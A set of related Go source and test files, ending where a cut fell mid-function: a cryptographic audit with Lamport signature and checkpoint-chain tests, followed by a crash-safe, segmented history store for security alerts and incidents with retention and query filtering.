	inv := Audit(server.HardenedConfig("tok"))
	if len(inv.Primitives) < 3 {
		t.Fatalf("primitives = %d", len(inv.Primitives))
	}
	// Even a hardened classical deployment is harvest-exposed (TLS
	// key exchange) and signature-spoofable (certificate) — the
	// paper's two quantum threats.
	if len(inv.HarvestExposed()) == 0 {
		t.Fatal("no harvest-now-decrypt-later exposure found")
	}
	if len(inv.Spoofable()) == 0 {
		t.Fatal("no spoofable signatures found")
	}
}

func TestAuditSloppy(t *testing.T) {
	inv := Audit(server.SloppyConfig())
	// Plaintext transport + no kernel signing.
	var hasPlaintext, hasNoSigning bool
	for _, p := range inv.Primitives {
		if p.Name == "plaintext" {
			hasPlaintext = true
		}
		if strings.Contains(p.Use, "disabled") {
			hasNoSigning = true
		}
	}
	if !hasPlaintext || !hasNoSigning {
		t.Fatalf("inventory = %+v", inv.Primitives)
	}
}

func TestInventoryRender(t *testing.T) {
	text := Audit(server.HardenedConfig("tok")).Render()
	for _, want := range []string{"HMAC-SHA256", "HARVEST-NOW-DECRYPT-LATER", "QUANTUM-SPOOFABLE"} {
		if !strings.Contains(text, want) {
			t.Errorf("render missing %q", want)
		}
	}
}

func TestLamportSignVerify(t *testing.T) {
	key, err := GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("audit log head: abc123")
	sig, err := key.Sign(msg)
	if err != nil {
		t.Fatal(err)
	}
	if !key.Public().Verify(msg, sig) {
		t.Fatal("valid signature rejected")
	}
}

func TestLamportRejectsForgery(t *testing.T) {
	key, _ := GenerateKey()
	msg := []byte("message one")
	sig, _ := key.Sign(msg)
	if key.Public().Verify([]byte("message two"), sig) {
		t.Fatal("signature valid for different message")
	}
	// Corrupt one preimage.
	sig.preimages[17][0] ^= 0xFF
	if key.Public().Verify(msg, sig) {
		t.Fatal("corrupted signature accepted")
	}
}

func TestLamportOneTimeEnforced(t *testing.T) {
	key, _ := GenerateKey()
	if _, err := key.Sign([]byte("first")); err != nil {
		t.Fatal(err)
	}
	if _, err := key.Sign([]byte("second")); !errors.Is(err, ErrKeyUsed) {
		t.Fatalf("second sign: %v", err)
	}
}

func TestLamportCrossKeyRejection(t *testing.T) {
	k1, _ := GenerateKey()
	k2, _ := GenerateKey()
	msg := []byte("m")
	sig, _ := k1.Sign(msg)
	if k2.Public().Verify(msg, sig) {
		t.Fatal("signature verified under wrong key")
	}
}

func TestFingerprintStable(t *testing.T) {
	k, _ := GenerateKey()
	if k.Public().Fingerprint() != k.Public().Fingerprint() {
		t.Fatal("fingerprint unstable")
	}
	k2, _ := GenerateKey()
	if k.Public().Fingerprint() == k2.Public().Fingerprint() {
		t.Fatal("fingerprint collision")
	}
}

func TestCheckpointChain(t *testing.T) {
	chain, err := NewCheckpointChain(5)
	if err != nil {
		t.Fatal(err)
	}
	heads := []string{"head-1", "head-2", "head-3"}
	for _, h := range heads {
		if _, err := chain.Checkpoint(h); err != nil {
			t.Fatal(err)
		}
	}
	cks := chain.Checkpoints()
	if len(cks) != 3 {
		t.Fatalf("checkpoints = %d", len(cks))
	}
	if err := VerifyChain(chain.Root(), cks); err != nil {
		t.Fatal(err)
	}
}

func TestCheckpointChainDetectsTamper(t *testing.T) {
	chain, _ := NewCheckpointChain(4)
	_, _ = chain.Checkpoint("head-1")
	_, _ = chain.Checkpoint("head-2")
	cks := chain.Checkpoints()
	cks[1].Head = "forged-head"
	if err := VerifyChain(chain.Root(), cks); err == nil {
		t.Fatal("forged checkpoint accepted")
	}
}

func TestCheckpointChainDetectsReorder(t *testing.T) {
	chain, _ := NewCheckpointChain(4)
	_, _ = chain.Checkpoint("h1")
	_, _ = chain.Checkpoint("h2")
	cks := chain.Checkpoints()
	cks[0], cks[1] = cks[1], cks[0]
	if err := VerifyChain(chain.Root(), cks); err == nil {
		t.Fatal("reordered chain accepted")
	}
}

func TestCheckpointChainExhaustion(t *testing.T) {
	chain, _ := NewCheckpointChain(2)
	if _, err := chain.Checkpoint("h1"); err != nil {
		t.Fatal(err)
	}
	// Key 2 is reserved as the committed next key; a second checkpoint
	// would need key 3.
	if _, err := chain.Checkpoint("h2"); !errors.Is(err, ErrKeyExhausted) {
		t.Fatalf("err = %v", err)
	}
}
