package histstore

import (
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/rules"
)

// TestQueryUnderLiveWriter interleaves appends with read-only opens
// and checks two invariants: a query never errors against a live
// writer, and after a Sync the reader sees exactly the flushed
// prefix — the snapshot a query at that instant is entitled to.
func TestQueryUnderLiveWriter(t *testing.T) {
	dir := t.TempDir()
	w, err := Open(dir, Options{SegmentBytes: 2048, FlushEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 200; i++ {
		if err := w.AppendIncident(mkIncident("mallory", "c", 0, i+1, rules.SevHigh, 80,
			t0, t0.Add(time.Duration(i)*time.Second))); err != nil {
			t.Fatal(err)
		}
		if i%50 != 49 {
			continue
		}
		if err := w.Sync(); err != nil {
			t.Fatal(err)
		}
		r, err := OpenRead(dir)
		if err != nil {
			t.Fatalf("open under live writer: %v", err)
		}
		incs, _, err := QueryIncidents(r, Query{MinSeverity: rules.SevHigh})
		if err != nil {
			t.Fatalf("query under live writer: %v", err)
		}
		// FlushEvery 1 + Sync: every append so far is readable, so the
		// deduped final state must be exactly the last update.
		if len(incs) != 1 || incs[0].AlertCount() != i+1 {
			t.Fatalf("after %d flushed updates reader sees %+v", i+1, incs)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestConcurrentAppendAndQuery hammers a writer from several
// goroutines while readers re-open and query — the race detector's
// view of the reader-under-writer contract. Results only need to be
// valid prefixes; exactness is the Sync test above.
func TestConcurrentAppendAndQuery(t *testing.T) {
	dir := t.TempDir()
	w, err := Open(dir, Options{SegmentBytes: 1024, FlushEvery: 4})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				_ = w.AppendIncident(mkIncident("actor", "c", g, i+1, rules.SevMedium, 40,
					t0, t0.Add(time.Duration(i)*time.Second)))
			}
		}(g)
	}
	for r := 0; r < 2; r++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				rd, err := OpenRead(dir)
				if err != nil {
					t.Errorf("open: %v", err)
					return
				}
				if _, _, err := QueryIncidents(rd, Query{}); err != nil {
					t.Errorf("query: %v", err)
					return
				}
			}
		}()
	}
	wg.Wait()
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Err(); err != nil {
		t.Fatal(err)
	}
	incs, _, err := QueryIncidents(w, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(incs) != 4 {
		t.Fatalf("got %d incidents, want 4 (one per generation)", len(incs))
	}
	for _, inc := range incs {
		if inc.AlertCount() != 100 {
			t.Fatalf("incident %+v, want final count 100", inc)
		}
	}
}

// TestFilterIncidentsMatchesQueryPredicate pins the equality
// contract's other half: FilterIncidents over engine snapshots
// applies the same predicate QueryIncidents applies to records.
func TestFilterIncidentsMatchesQueryPredicate(t *testing.T) {
	incs := []*core.Incident{
		{Actor: "a", Class: "x", Severity: rules.SevLow, RiskScore: 10, Opened: t0, LastAlert: t0.Add(time.Minute), Count: 2},
		{Actor: "b", Class: "y", Severity: rules.SevCritical, RiskScore: 90, Opened: t0.Add(time.Hour), LastAlert: t0.Add(2 * time.Hour), Count: 9},
	}
	if got := FilterIncidents(incs, Query{MinSeverity: rules.SevHigh}); len(got) != 1 || got[0].Actor != "b" {
		t.Fatalf("severity filter: %+v", got)
	}
	if got := FilterIncidents(incs, Query{MinBand: BandCritical}); len(got) != 1 || got[0].Actor != "b" {
		t.Fatalf("band filter: %+v", got)
	}
	if got := FilterIncidents(incs, Query{Until: t0.Add(30 * time.Minute)}); len(got) != 1 || got[0].Actor != "a" {
		t.Fatalf("window filter: %+v", got)
	}
	if got := FilterIncidents(incs, Query{Actor: "a", Class: "x"}); len(got) != 1 || got[0].Actor != "a" {
		t.Fatalf("actor+class filter: %+v", got)
	}
	if got := FilterIncidents(incs, Query{}); len(got) != 2 {
		t.Fatalf("empty query dropped incidents: %+v", got)
	}
}
