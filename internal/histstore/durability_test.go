package histstore

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"repro/internal/rules"
)

// fillHist writes n alert records, sealing segments per opts, and
// returns the sealed store.
func fillHist(t *testing.T, dir string, opts Options, n int) *Store {
	t.Helper()
	s, err := Open(dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < n; i++ {
		if err := s.AppendAlert(mkAlert("actor", rules.SevMedium, t0.Add(time.Duration(i)*time.Second))); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return s
}

func countRecords(t *testing.T, dir string) int {
	t.Helper()
	r, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, seg := range r.Segments() {
		n += seg.Index.Records
	}
	return n
}

// TestTornTailExactLossAccounting cuts a crashed writer's segment mid-
// frame and checks the reopen truncates exactly the torn suffix: the
// reported loss plus the surviving file size must equal the original
// size, and every intact record must survive.
func TestTornTailExactLossAccounting(t *testing.T) {
	dir := t.TempDir()
	s := fillHist(t, dir, Options{}, 30)
	seg := s.Segments()[0]
	if err := os.Remove(indexPath(seg.Path)); err != nil {
		t.Fatal(err)
	}
	const chop = 5 // mid-frame: the last record's tail is cut off
	if err := os.Truncate(seg.Path, seg.Index.Bytes-chop); err != nil {
		t.Fatal(err)
	}

	re, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	rec := re.Recovered()
	if len(rec) != 1 {
		t.Fatalf("recovered %v, want one tail loss", rec)
	}
	st, err := os.Stat(seg.Path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Size()+rec[0].LostBytes != seg.Index.Bytes-chop {
		t.Fatalf("accounting broken: %d surviving + %d lost != %d on disk pre-recovery",
			st.Size(), rec[0].LostBytes, seg.Index.Bytes-chop)
	}
	if got := countRecords(t, dir); got != 29 {
		t.Fatalf("%d records after recovery, want 29 (only the chopped one lost)", got)
	}

	// Recovery is idempotent: a second open finds a clean store.
	re2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(re2.Recovered()) != 0 {
		t.Fatalf("second open still recovering: %v", re2.Recovered())
	}
}

// TestCrashMidCompactionRecovery kills a compaction between the
// sidecar removal and the data removal — the only window the
// sidecar-before-data discipline allows — and checks the next open
// re-indexes the orphan data file instead of losing or double-freeing
// it.
func TestCrashMidCompactionRecovery(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for seg := 0; seg < 3; seg++ {
		if err := s.AppendIncident(mkIncident("m", "c", seg, seg+1, rules.SevHigh, 60,
			t0, t0.Add(time.Duration(seg)*time.Second))); err != nil {
			t.Fatal(err)
		}
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
	oldest := s.Segments()[0]
	// Simulate the crash: sidecar gone, data still present.
	if err := os.Remove(indexPath(oldest.Path)); err != nil {
		t.Fatal(err)
	}

	re, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := len(re.Segments()); got != 3 {
		t.Fatalf("%d segments after reopen, want 3 (orphan re-indexed)", got)
	}
	if _, err := os.Stat(indexPath(oldest.Path)); err != nil {
		t.Fatalf("sidecar not rebuilt: %v", err)
	}
	incs, _, err := QueryIncidents(re, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(incs) != 3 {
		t.Fatalf("%d incidents after recovery, want all 3 generations", len(incs))
	}

	// The interrupted retention pass can simply run again.
	if _, err := re.Compact(1); err != nil {
		t.Fatal(err)
	}
	if got := len(re.Segments()); got != 1 {
		t.Fatalf("%d segments after re-run compaction, want 1", got)
	}
}

// TestOpenReadNeverWrites opens a store with a missing sidecar and a
// torn tail read-only and checks no file changes: no sidecar appears,
// no truncation happens.
func TestOpenReadNeverWrites(t *testing.T) {
	dir := t.TempDir()
	s := fillHist(t, dir, Options{}, 10)
	seg := s.Segments()[0]
	if err := os.Remove(indexPath(seg.Path)); err != nil {
		t.Fatal(err)
	}
	garbage := []byte("\xff\xff torn tail")
	f, err := os.OpenFile(seg.Path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write(garbage); err != nil {
		t.Fatal(err)
	}
	f.Close()
	sizeBefore := seg.Index.Bytes + int64(len(garbage))

	r, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Recovered()) != 1 {
		t.Fatalf("reader did not report the torn tail: %v", r.Recovered())
	}
	if _, err := os.Stat(indexPath(seg.Path)); !os.IsNotExist(err) {
		t.Fatal("read-only open wrote a sidecar")
	}
	st, err := os.Stat(seg.Path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Size() != sizeBefore {
		t.Fatalf("read-only open truncated the segment: %d bytes, want %d", st.Size(), sizeBefore)
	}
	// The flushed prefix still reads fully.
	incsAlerts, _, err := QueryAlerts(r, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(incsAlerts) != 10 {
		t.Fatalf("reader saw %d records, want 10", len(incsAlerts))
	}
	files, err := filepath.Glob(filepath.Join(dir, "*"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 1 {
		t.Fatalf("read-only open created files: %v", files)
	}
}
