package histstore

import "repro/internal/evstore"

// RetentionResult reports what a tiered-retention pass removed.
type RetentionResult struct {
	EventSegmentsDropped   int
	HistorySegmentsDropped int
}

// ApplyTieredRetention enforces the two-tier retention policy: raw
// events are the bulky, reproducible tier and compact first; incident
// history is the cheap, derived-but-precious tier and compacts last.
// The ordering is load-bearing — as long as an event segment
// survives, the history over it can be re-derived by re-detection,
// so events must never outlive the history that summarizes them in
// the other direction. keepEvents/keepHist are maximum sealed segment
// counts per tier; a negative keep skips that tier entirely. A
// failure in the events tier returns before history is touched.
func ApplyTieredRetention(events *evstore.Store, hist *Store, keepEvents, keepHist int) (RetentionResult, error) {
	var res RetentionResult
	if events != nil && keepEvents >= 0 {
		n, err := events.Compact(keepEvents)
		res.EventSegmentsDropped = n
		if err != nil {
			return res, err
		}
	}
	if hist != nil && keepHist >= 0 {
		n, err := hist.Compact(keepHist)
		res.HistorySegmentsDropped = n
		if err != nil {
			return res, err
		}
	}
	return res, nil
}
