package histstore

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

// Options tunes a store. Zero values pick the defaults.
type Options struct {
	// SegmentBytes is the rotation threshold: once a segment's valid
	// data reaches it, the segment is sealed and a new one started.
	// Default 1 MiB — history records are small, and smaller segments
	// give index pruning finer granularity.
	SegmentBytes int64
	// FlushEvery is how many appended records may sit in the write
	// buffer before it is flushed to the OS. Default 128.
	FlushEvery int
	// MaxActors caps the per-segment actor facet; a segment seeing
	// more distinct actors is marked overflowed and matches any actor
	// filter. Default 256.
	MaxActors int
	// MaxClasses caps the per-segment class facet likewise.
	// Default 64.
	MaxClasses int
}

func (o Options) withDefaults() Options {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 1 << 20
	}
	if o.FlushEvery <= 0 {
		o.FlushEvery = 128
	}
	if o.MaxActors <= 0 {
		o.MaxActors = 256
	}
	if o.MaxClasses <= 0 {
		o.MaxClasses = 64
	}
	return o
}

// SegmentInfo describes one sealed, readable segment.
type SegmentInfo struct {
	N     int // segment number; scan order is ascending N
	Path  string
	Index Index
}

// TailLoss records corruption found and truncated during Open.
type TailLoss struct {
	Segment   string
	LostBytes int64
	Reason    string
}

// Store is a history log rooted at one directory. AppendAlert and
// AppendIncident are safe for concurrent use (the core engine invokes
// its hooks from many worker goroutines); the first write failure is
// sticky and reported by Err, so a recording pipeline never mistakes
// a torn history for a complete one.
type Store struct {
	dir      string
	opts     Options
	readOnly bool

	mu        sync.Mutex
	sealed    []SegmentInfo
	nextN     int
	cur       *segmentWriter
	recovered []TailLoss
	err       error // first append/seal failure; sticky
}

type segmentWriter struct {
	f         *os.File
	pending   []byte // buffered frames not yet written through
	info      SegmentInfo
	builder   *indexBuilder
	unflushed int
}

// Open creates or opens a history directory for appending. Existing
// segments are validated: a missing or unreadable sidecar is rebuilt
// by scanning the data, and the newest segment — the only one a
// crashed writer can have torn — is truncated at its first bad frame,
// with the loss reported by Recovered. Appends always start a fresh
// segment, so recovery never rewrites sealed history.
func Open(dir string, opts Options) (*Store, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("histstore: %w", err)
	}
	return open(dir, opts, false)
}

// OpenRead opens an existing history without ever mutating it:
// missing sidecars are rebuilt in memory only and a torn newest
// segment is reported via Recovered but not truncated (readers stop
// at the first bad frame regardless). This is the query path's entry
// point — it sees the flushed prefix of a live writer's active
// segment and never freezes a stale sidecar over it, exactly the
// evstore.OpenRead discipline. Appends and Compact on a read-only
// store fail.
func OpenRead(dir string) (*Store, error) {
	if st, err := os.Stat(dir); err != nil {
		return nil, fmt.Errorf("histstore: %w", err)
	} else if !st.IsDir() {
		return nil, fmt.Errorf("histstore: %s is not a history directory", dir)
	}
	return open(dir, Options{}, true)
}

// Mode is the policy for opening a history path that already holds
// records — the histstore mirror of evstore.SinkMode.
type Mode int

const (
	// OpenFresh refuses a non-empty history. The probe is read-only,
	// so the refusal leaves a live writer's store untouched. For
	// one-shot runs whose history must equal exactly what this run
	// detected.
	OpenFresh Mode = iota
	// OpenReplace drops the existing history and starts over. For
	// reruns that re-detect from scratch.
	OpenReplace
	// OpenAppend continues an existing history. For long-lived
	// daemons that span restarts.
	OpenAppend
)

// OpenWith opens a history directory under the given mode.
func OpenWith(dir string, mode Mode, opts Options) (*Store, error) {
	if st, err := os.Stat(dir); err == nil && st.IsDir() {
		probe, err := OpenRead(dir)
		if err != nil {
			return nil, err
		}
		if existing := probe.Records(); mode == OpenFresh && existing > 0 {
			return nil, fmt.Errorf("histstore: %s already holds recorded history (%d records); delete it or record elsewhere", dir, existing)
		}
	}
	s, err := Open(dir, opts)
	if err != nil {
		return nil, err
	}
	if mode == OpenReplace {
		if _, err := s.Compact(0); err != nil {
			return nil, err
		}
	}
	return s, nil
}

func open(dir string, opts Options, readOnly bool) (*Store, error) {
	opts = opts.withDefaults()
	paths, err := filepath.Glob(filepath.Join(dir, "hist-*.hr"))
	if err != nil {
		return nil, fmt.Errorf("histstore: %w", err)
	}
	type numbered struct {
		n    int
		path string
	}
	var segs []numbered
	for _, p := range paths {
		var n int
		if _, err := fmt.Sscanf(filepath.Base(p), "hist-%d.hr", &n); err != nil {
			continue // not ours
		}
		segs = append(segs, numbered{n, p})
	}
	sort.Slice(segs, func(i, j int) bool { return segs[i].n < segs[j].n })

	s := &Store{dir: dir, opts: opts, readOnly: readOnly, nextN: 1}
	for i, seg := range segs {
		info := SegmentInfo{N: seg.n, Path: seg.path}
		ix, ok := loadIndex(indexPath(seg.path))
		if ok {
			info.Index = ix
		} else {
			rebuilt, res, err := rebuildIndex(seg.path, opts.MaxActors, opts.MaxClasses)
			if err != nil {
				return nil, fmt.Errorf("histstore: rebuild %s: %w", seg.path, err)
			}
			if res.Truncated && i == len(segs)-1 {
				// Only the newest segment can hold a torn append from
				// a crashed writer. A writer cuts it off so new frames
				// never land after garbage; a reader just reports it.
				if !readOnly {
					if err := os.Truncate(seg.path, res.ValidBytes); err != nil {
						return nil, fmt.Errorf("histstore: truncate %s: %w", seg.path, err)
					}
				}
				s.recovered = append(s.recovered, TailLoss{
					Segment: seg.path, LostBytes: res.TailLossBytes, Reason: res.Reason,
				})
			}
			if !readOnly {
				if err := writeIndex(indexPath(seg.path), rebuilt); err != nil {
					return nil, fmt.Errorf("histstore: %w", err)
				}
			}
			info.Index = rebuilt
		}
		s.sealed = append(s.sealed, info)
		s.nextN = seg.n + 1
	}
	return s, nil
}

// Dir returns the store's root directory.
func (s *Store) Dir() string { return s.dir }

// Recovered reports any corrupt tails truncated while opening.
func (s *Store) Recovered() []TailLoss {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]TailLoss(nil), s.recovered...)
}

// Segments returns the sealed, readable segments in scan order. The
// active segment (appends since Open) is excluded until sealed by
// rotation or Close.
func (s *Store) Segments() []SegmentInfo {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]SegmentInfo(nil), s.sealed...)
}

// Records returns the total records across sealed segments.
func (s *Store) Records() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, seg := range s.sealed {
		n += seg.Index.Records
	}
	return n
}

// Stats summarizes the history's on-disk shape from the sidecars
// alone — O(segments), no segment data touched.
type Stats struct {
	Segments           int
	Records            int
	AlertRecords       int
	IncidentRecords    int
	Bytes              int64
	RecoveredLossBytes int64
}

// Stats reports the store's current on-disk summary. Only sealed
// segments count; the active segment is excluded until rotation or
// Close, like Segments.
func (s *Store) Stats() Stats {
	s.mu.Lock()
	defer s.mu.Unlock()
	var st Stats
	for _, seg := range s.sealed {
		st.Segments++
		st.Records += seg.Index.Records
		st.AlertRecords += seg.Index.AlertRecords
		st.IncidentRecords += seg.Index.IncidentRecords
		st.Bytes += seg.Index.Bytes
	}
	for _, loss := range s.recovered {
		st.RecoveredLossBytes += loss.LostBytes
	}
	return st
}

// Render formats the stats as one deterministic line, for the CLI
// history-stats output.
func (st Stats) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "segments=%d records=%d alerts=%d incidents=%d bytes=%d recovered-loss-bytes=%d",
		st.Segments, st.Records, st.AlertRecords, st.IncidentRecords, st.Bytes, st.RecoveredLossBytes)
	return b.String()
}

// AppendAlert records one fired alert.
func (s *Store) AppendAlert(a AlertRecord) error {
	return s.Append(Record{Kind: KindAlert, Alert: a})
}

// AppendIncident records one incident snapshot.
func (s *Store) AppendIncident(in IncidentRecord) error {
	return s.Append(Record{Kind: KindIncident, Incident: in})
}

// Append adds one record to the log.
func (s *Store) Append(r Record) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	if err := s.append(r); err != nil {
		s.err = err
		return err
	}
	return nil
}

// Err returns the first append or seal error, or nil.
func (s *Store) Err() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.err
}

func (s *Store) append(r Record) error {
	if s.readOnly {
		return fmt.Errorf("histstore: store opened read-only")
	}
	if s.cur == nil {
		w, err := s.openSegment()
		if err != nil {
			return err
		}
		s.cur = w
	}
	w := s.cur
	start := len(w.pending)
	// Reserve the frame header, encode the payload in place, then
	// back-fill length and checksum — one buffer, no staging copy.
	w.pending = append(w.pending, 0, 0, 0, 0, 0, 0, 0, 0)
	payloadStart := len(w.pending)
	pending, err := AppendRecord(w.pending, r)
	if err != nil {
		w.pending = w.pending[:start]
		return err
	}
	payload := pending[payloadStart:]
	if len(payload) > maxFrame {
		w.pending = w.pending[:start]
		return fmt.Errorf("histstore: record of %d bytes exceeds frame limit", len(payload))
	}
	binary.LittleEndian.PutUint32(pending[start:], uint32(len(payload)))
	binary.LittleEndian.PutUint32(pending[start+4:], crc32.Checksum(payload, castagnoli))
	w.pending = pending
	w.info.Index.observe(r, int64(len(w.pending)-start), w.builder, s.opts.MaxActors, s.opts.MaxClasses)
	w.unflushed++
	if w.unflushed >= s.opts.FlushEvery {
		if err := s.flushCur(); err != nil {
			return err
		}
	}
	if w.info.Index.Bytes >= s.opts.SegmentBytes {
		return s.sealCur()
	}
	return nil
}

func (s *Store) openSegment() (*segmentWriter, error) {
	n := s.nextN
	path := filepath.Join(s.dir, fmt.Sprintf("hist-%08d.hr", n))
	f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, fmt.Errorf("histstore: %w", err)
	}
	if _, err := f.Write([]byte(segMagic)); err != nil {
		f.Close()
		return nil, fmt.Errorf("histstore: %w", err)
	}
	s.nextN++
	return &segmentWriter{
		f: f,
		info: SegmentInfo{N: n, Path: path, Index: Index{
			Version: IndexVersion, Bytes: int64(len(segMagic)),
		}},
		builder: newIndexBuilder(),
	}, nil
}

// flushCur writes buffered frames through to the file.
func (s *Store) flushCur() error {
	w := s.cur
	if w == nil || len(w.pending) == 0 {
		return nil
	}
	if _, err := w.f.Write(w.pending); err != nil {
		return fmt.Errorf("histstore: %w", err)
	}
	w.pending = w.pending[:0]
	w.unflushed = 0
	return nil
}

// sealCur flushes the active segment, writes its sidecar, and retires
// it to the readable set. Data reaches the file before the sidecar
// exists — the ordering every recovery path relies on.
func (s *Store) sealCur() error {
	w := s.cur
	if w == nil {
		return nil
	}
	if err := s.flushCur(); err != nil {
		return err
	}
	if err := w.f.Close(); err != nil {
		return fmt.Errorf("histstore: %w", err)
	}
	w.info.Index.seal(w.builder)
	if err := writeIndex(indexPath(w.info.Path), w.info.Index); err != nil {
		return err
	}
	s.sealed = append(s.sealed, w.info)
	s.cur = nil
	return nil
}

// Sync flushes buffered frames to the OS without sealing, making them
// visible to concurrent OpenRead queries.
func (s *Store) Sync() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	if err := s.flushCur(); err != nil {
		s.err = err
	}
	return s.err
}

// Close seals the active segment (if any) and returns the sticky
// error. The store stays usable for reads; a later Append starts a
// fresh segment.
func (s *Store) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.sealCur(); err != nil && s.err == nil {
		s.err = err
	}
	return s.err
}

// Compact enforces retention: it deletes the oldest sealed segments
// (data and sidecar) so that at most keep remain, and returns how
// many were removed. The active segment is untouched. keep < 0 is an
// error; keep == 0 drops all sealed history. Removal is oldest-first
// and each segment's sidecar goes before its data, so a crash
// mid-compaction leaves at worst an orphan data file that the next
// Open re-indexes — never an index without data.
func (s *Store) Compact(keep int) (int, error) {
	if keep < 0 {
		return 0, fmt.Errorf("histstore: negative retention %d", keep)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.readOnly {
		return 0, fmt.Errorf("histstore: store opened read-only")
	}
	drop := len(s.sealed) - keep
	if drop <= 0 {
		return 0, nil
	}
	for i := 0; i < drop; i++ {
		seg := s.sealed[i]
		if err := os.Remove(indexPath(seg.Path)); err != nil && !os.IsNotExist(err) {
			s.sealed = s.sealed[i:]
			return i, fmt.Errorf("histstore: %w", err)
		}
		if err := os.Remove(seg.Path); err != nil {
			s.sealed = s.sealed[i:]
			return i, fmt.Errorf("histstore: %w", err)
		}
	}
	s.sealed = append([]SegmentInfo(nil), s.sealed[drop:]...)
	return drop, nil
}
