package histstore

import (
	"sort"
	"strconv"
	"time"

	"repro/internal/core"
	"repro/internal/rules"
)

// Query is a history filter. Every predicate is either constant per
// incident (Actor, Class), a minimum threshold over a monotone
// aggregate (MinSeverity, MinBand), or interval overlap with the
// incident's only-growing [Opened, LastAlert] window (Since, Until) —
// the three shapes for which segment pruning plus keep-the-final-
// record reconstruction is provably exact. An equality filter over a
// changing aggregate (e.g. "risk band == moderate") would not be: the
// final record's segment could be pruned while a stale lower-band
// record survives in a visited one.
type Query struct {
	// Actor matches the incident/alert actor exactly; "" matches any.
	Actor string
	// Class matches the incident/alert class exactly; "" matches any.
	Class string
	// MinSeverity keeps records at or above this severity; "" keeps
	// all.
	MinSeverity rules.Severity
	// MinBand keeps incidents whose risk band is at or above this
	// band; "" keeps all. Alerts carry no risk score, so QueryAlerts
	// ignores it.
	MinBand Band
	// Since/Until bound the time window (inclusive); zero means
	// unbounded. An incident matches when [Opened, LastAlert] overlaps
	// the window; an alert when its Time falls inside it.
	Since time.Time
	Until time.Time
}

// MatchIndex reports whether a segment with this index could contain
// a matching record. Missing facets fail open (match), mirroring
// evstore.Filter.MatchIndex: pruning is an optimization, never a
// correctness dependency.
func (q Query) MatchIndex(ix Index) bool {
	if !q.Since.IsZero() && !ix.MaxTime.IsZero() && ix.MaxTime.Before(q.Since) {
		return false
	}
	if !q.Until.IsZero() && !ix.MinTime.IsZero() && ix.MinTime.After(q.Until) {
		return false
	}
	if q.MinSeverity != "" && len(ix.Severities) > 0 {
		min := q.MinSeverity.Rank()
		ok := false
		for sev := range ix.Severities {
			if rules.Severity(sev).Rank() >= min {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	if q.MinBand != "" && len(ix.Bands) > 0 {
		min := BandRank(q.MinBand)
		ok := false
		for band := range ix.Bands {
			if BandRank(Band(band)) >= min {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	if q.Actor != "" && !ix.ActorsOverflow && len(ix.Actors) > 0 && !contains(ix.Actors, q.Actor) {
		return false
	}
	if q.Class != "" && !ix.ClassesOverflow && len(ix.Classes) > 0 && !contains(ix.Classes, q.Class) {
		return false
	}
	return true
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

// matchIncident applies the record-level predicate. Monotonicity
// guarantees that if any record of an incident matches, the
// incident's final record matches too, so dedup-by-max-count over the
// matching records yields exactly the final states.
func (q Query) matchIncident(in IncidentRecord) bool {
	if q.Actor != "" && in.Actor != q.Actor {
		return false
	}
	if q.Class != "" && in.Class != q.Class {
		return false
	}
	if q.MinSeverity != "" && in.Severity.Rank() < q.MinSeverity.Rank() {
		return false
	}
	if q.MinBand != "" && BandRank(RiskBandOf(in.RiskScore)) < BandRank(q.MinBand) {
		return false
	}
	if !q.Since.IsZero() && in.LastAlert.Before(q.Since) {
		return false
	}
	if !q.Until.IsZero() && in.Opened.After(q.Until) {
		return false
	}
	return true
}

// matchAlert applies the record-level predicate to an alert record.
func (q Query) matchAlert(a AlertRecord) bool {
